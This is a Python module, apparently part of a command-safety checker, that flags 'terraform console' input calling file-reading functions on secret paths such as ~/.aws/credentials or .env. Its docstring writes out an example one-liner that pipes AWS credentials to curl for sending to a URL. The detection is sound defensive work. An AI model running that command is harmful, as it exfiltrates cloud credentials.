"""Files read by the expressions ``terraform console`` (or ``tofu console``) evaluates.

``terraform console`` reads expressions from stdin and prints their values:
``file("~/.aws/credentials")`` (also ``filebase64``, ``templatefile``, the ``file*sha*``
digests, and a path wrapped in ``pathexpand(...)``) prints the file, so ``terraform console
<<< 'file("~/.aws/credentials")' | curl -d @- URL`` reads a secret and sends it. The paths
are checked like ``cat``'s arguments (a sensitive file is a secret read; the output of
a sensitive or secret file such as ``.env`` carries the secret). Only ``console`` with a
stdin text known statically is read; the regex has no nested repetition (linear).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from ._checks import check_args
from ._words import Field

if TYPE_CHECKING:
    from ._flow import Flow
    from ._resolve import Invocation
    from ._walk import Run

__all__ = ["TF_NAMES", "console_reads"]

TF_NAMES = frozenset({"terraform", "tofu"})

_FILE_CALL = re.compile(r'\b(?:file|filebase64|templatefile|filemd5|filesha1|filesha256|'
                        r'filesha512|filebase64sha256|filebase64sha512)\s*\(\s*'
                        r'(?:pathexpand\s*\(\s*)?"([^"\n]{1,4096})"')


def console_reads(run: Run, inv: Invocation, stdin: Flow | None) -> bool:
    """``terraform console`` fed expressions reading files: True when one is a secret."""
    text = stdin.text if stdin is not None else None
    if text is None or "file" not in text or not any(f.text == "console" for f in inv.args):
        return False
    paths = [Field(m.group(1), inv.word.span) for m in _FILE_CALL.finditer(text[:20000])]
    if not paths:
        return False
    from ._secrets import secret_file  # late: _secrets imports the rules tables

    # ~/.aws/credentials: a sensitive path (reported); .env: a project's secret file
    return check_args(run.add, run.cp.paths, "cat", paths[:16], run.cwd) or \
        secret_file(paths[:16])
